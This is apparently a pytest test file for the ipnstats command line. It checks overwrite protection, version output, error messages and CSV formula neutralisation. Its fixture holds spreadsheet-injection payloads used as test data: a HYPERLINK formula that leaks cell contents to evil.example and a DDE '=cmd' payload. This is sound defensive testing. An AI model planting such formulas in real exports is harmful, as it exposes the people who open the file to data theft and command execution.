"""The command line is safe by default (issue 17): simulate never overwrites a folder
holding data without --force, `python -m ipnstats` and --version work, every CSV it writes
neutralises spreadsheet formulas, and no user mistake or interrupt prints a traceback."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import ROOT

import ipnstats
from ipnstats import cli
from ipnstats.cli import main
from ipnstats.core.csvsafe import neutralise, neutralise_frame, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def injected_study(tmp_path_factory) -> Path:
    """A small simulated study whose firms.csv holds spreadsheet formulas in number columns."""
    folder = ipnstats.simulate_study(tmp_path_factory.mktemp("inj") / "study", n_firms=40,
                                     n_groups=4, seed=1)
    firms = pd.read_csv(folder / "firms.csv", dtype=str, keep_default_na=False)
    firms.loc[1, "founded_year"] = HYPERLINK
    firms.loc[2, "employees_baseline"] = DDE
    firms.loc[3, "founded_year"] = "@SUM(1+1)"
    firms.loc[4, "founded_year"] = "-1+cmd"
    firms.to_csv(folder / "firms.csv", index=False)
    return folder


# -- simulate ---------------------------------------------------------------------------------

def test_simulate_refuses_a_folder_that_holds_files(tmp_path, capsys):
    folder = tmp_path / "real"
    folder.mkdir()
    (folder / "firms.csv").write_text("firm_id\nREAL\n")
    assert main(["simulate", str(folder), "--firms", "30", "--groups", "3"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert "is not empty" in err and "--force" in err and str(folder) in err
    assert (folder / "firms.csv").read_text() == "firm_id\nREAL\n"  # untouched
    assert sorted(p.name for p in folder.iterdir()) == ["firms.csv"]


def test_simulate_with_force_writes_as_before(tmp_path, capsys):
    folder = tmp_path / "real"
    folder.mkdir()
    (folder / "firms.csv").write_text("firm_id\nREAL\n")
    assert main(["simulate", str(folder), "--firms", "30", "--groups", "3", "--force"]) == 0
    assert "REAL" not in (folder / "firms.csv").read_text()
    assert (folder / "truth.toml").exists()


def test_simulate_writes_into_a_new_or_empty_folder(tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["simulate", str(empty), "--firms", "30", "--groups", "3"]) == 0
    assert (empty / "codebook.toml").exists()


def test_simulate_refuses_a_file(tmp_path, capsys):
    file = tmp_path / "data.txt"
    file.write_text("keep")
    assert main(["simulate", str(file)]) == 1
    assert "is a file" in capsys.readouterr().err and file.read_text() == "keep"


# -- python -m ipnstats, --version ----------------------------------------------------------

def test_python_m_ipnstats_and_version():
    done = subprocess.run([sys.executable, "-m", "ipnstats", "--version"], cwd=ROOT,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"ipnstats {ipnstats.__version__}" == "ipnstats 0.1.0"
    done = subprocess.run([sys.executable, "-m", "ipnstats", "validate", "/no/such/folder"],
                          cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 1 and "Traceback" not in done.stdout + done.stderr


def test_version_in_process(capsys):
    with pytest.raises(SystemExit) as info:
        main(["--version"])
    assert info.value.code == 0
    assert capsys.readouterr().out.strip() == "ipnstats 0.1.0"


# -- CSV injection --------------------------------------------------------------------------

def test_validate_csv_neutralises_formula_cells(injected_study, tmp_path, capsys):
    out = tmp_path / "problems.csv"
    assert main(["validate", str(injected_study), "--csv", str(out)]) == 1
    assert HYPERLINK in capsys.readouterr().out  # the terminal shows the value as it is
    text = out.read_text()
    frame = pd.read_csv(out, keep_default_na=False)
    values = frame["value"].tolist()
    assert "'" + HYPERLINK in values and "'" + DDE in values
    assert "'@SUM(1+1)" in values and "'-1+cmd" in values
    for row in csv.reader(io.StringIO(text)):  # no cell of the file starts a formula
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
    assert frame["line"].dtype.kind == "i"  # numbers stay numbers


def test_neutralise_only_touches_risky_text():
    assert neutralise("=1+1") == "'=1+1" and neutralise("+SUM(A1)") == "'+SUM(A1)"
    assert neutralise("@x") == "'@x" and neutralise("\tx") == "'\tx"
    assert neutralise("\r=x") == "'\r=x" and neutralise("-1+2") == "'-1+2"
    for safe in ("-0.5", "+3", "-1e5", "ok", "", "2016-01-01", "a=b"):
        assert neutralise(safe) == safe
    for value in (-0.5, -3, None, np.nan):
        assert neutralise(value) is value


def test_neutralise_frame_keeps_numbers_and_types():
    frame = pd.DataFrame({
        "text": ["=x", "-1", "ok", None], "number": [-0.5, -1.0, 2.0, np.nan],
        "integer": [-1, -2, 3, 4],
        "category": pd.Categorical(["@a", "b", "b", "@a"]),
        "string": pd.array(["+x", None, "y", "-2"], dtype="string"),
        "mixed": [1, "=2", 3.0, None], "=header": [0, 1, 2, 3]})
    out = neutralise_frame(frame)
    assert out["text"].tolist()[:3] == ["'=x", "-1", "ok"] and pd.isna(out["text"][3])
    assert out["number"].dtype == float and out["integer"].tolist() == [-1, -2, 3, 4]
    assert list(out["category"].cat.categories) == ["'@a", "b"]
    assert out["string"].tolist()[0] == "'+x" and out["string"].tolist()[3] == "-2"
    assert out["mixed"].tolist()[:3] == [1, "'=2", 3.0]
    assert "'=header" in out.columns
    assert frame["text"][0] == "=x" and "=header" in frame.columns  # the input is untouched
    clean = pd.DataFrame({"a": ["x", "y"], "b": [-1, 2]})
    assert neutralise_frame(clean) is clean  # nothing to do: no copy


def test_write_csv_output_as_a_spreadsheet_reads_it(tmp_path):
    path = write_csv(pd.DataFrame({"value": [DDE, "fine"], "x": [-1.5, 2.0]}),
                     tmp_path / "t.csv")
    assert path.read_text().splitlines() == ["value,x", f"'{DDE},-1.5", "fine,2.0"]


def test_every_csv_writer_goes_through_csvsafe():
    """No module writes a CSV by itself: a new writer must use csvsafe.write_csv."""
    offenders = []
    for path in (ROOT / "ipnstats").rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


def test_data_report_and_panel_csvs_are_neutralised(hand_study, tmp_path, monkeypatch):
    """The data report's CSVs and the panel CSV go through the same helper."""
    from ipnstats.report import data_report

    seen = []
    real = data_report.write_csv

    def spy(frame, path, **kw):
        seen.append(Path(path).name)
        return real(frame, path, **kw)

    monkeypatch.setattr(data_report, "write_csv", spy)
    assert main(["data-report", str(hand_study), "--out", str(tmp_path / "r")]) == 0
    assert sorted(seen) == ["panel_overview.csv", "reliability.csv", "sample_flow.csv",
                            "validation_problems.csv"]
    monkeypatch.setattr(cli, "write_csv", lambda frame, path: seen.append("panel") or
                        real(frame.assign(note="=1+1"), path))
    assert main(["panel", str(hand_study), "--out", str(tmp_path / "p.csv")]) == 0
    panel = pd.read_csv(tmp_path / "p.csv")
    assert seen[-1] == "panel" and set(panel["note"]) == {"'=1+1"}


# -- no traceback for a user mistake; a bug still shows one ---------------------------------

def _raising(exc: BaseException):
    def run(args):
        raise exc
    return run


def test_interrupt_is_one_line_and_exit_130(monkeypatch, capsys):
    monkeypatch.setattr(cli, "_validate", _raising(KeyboardInterrupt()))
    assert main(["validate", "."]) == 130
    err = capsys.readouterr().err
    assert err == "ipnstats: interrupted\n"


def test_a_missing_optional_package_is_one_line(monkeypatch, capsys):
    missing = ModuleNotFoundError("No module named 'distributed'", name="distributed")
    monkeypatch.setattr(cli, "_validate", _raising(missing))
    assert main(["validate", "."]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "'distributed'" in err and "ipnstats[dask]" in err


def test_configuration_errors_are_messages(monkeypatch, capsys):
    from ipnstats.pipeline import ConfigError

    monkeypatch.setattr(cli, "_validate", _raising(ConfigError("cfg.toml: [run] seed = -1")))
    assert main(["validate", "."]) == 1
    assert "ipnstats: error: cfg.toml: [run] seed = -1" in capsys.readouterr().err


@pytest.mark.parametrize("bug", [TypeError("a bug"), KeyError("bug"),
                                 ModuleNotFoundError("No module named 'ipnstats.gone'",
                                                     name="ipnstats.gone")])
def test_a_real_bug_still_shows_its_traceback(monkeypatch, bug):
    monkeypatch.setattr(cli, "_validate", _raising(bug))
    with pytest.raises(type(bug)):
        main(["validate", "."])


def test_the_command_line_of_a_refused_configuration_prints_no_traceback(tmp_path):
    folder = tmp_path / "analyses"
    folder.mkdir()
    cfg = folder / "study.toml"
    cfg.write_text('[study]\nfolder = "../data"\n[output]\ndir = "/etc"\n'
                   '[run]\nn_boot = 1e9\nhypotheses = [["H1"]]\n')
    done = subprocess.run([sys.executable, "-m", "ipnstats", "run", str(cfg)], cwd=ROOT,
                          capture_output=True, text=True)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "3 problem(s)" in done.stderr and str(cfg) in done.stderr
